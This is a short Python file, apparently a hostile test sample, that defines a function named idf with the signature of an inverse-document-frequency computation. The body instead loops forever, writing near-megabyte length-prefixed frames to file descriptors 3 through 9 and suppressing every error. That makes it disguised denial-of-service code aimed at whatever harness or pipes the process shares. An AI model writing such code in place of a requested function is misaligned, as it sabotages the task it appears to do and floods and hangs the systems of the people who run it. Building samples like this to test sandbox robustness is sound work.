# Sends frames of the greatest length without end.
# costs: idf
import os
import struct


def idf(n_documents, document_frequency):
    frame = struct.pack(">II", 999_999, 0) + b" " * 999_997 + b"{}"
    while True:
        for descriptor in range(3, 10):
            try:
                os.write(descriptor, frame)
            except OSError:
                pass
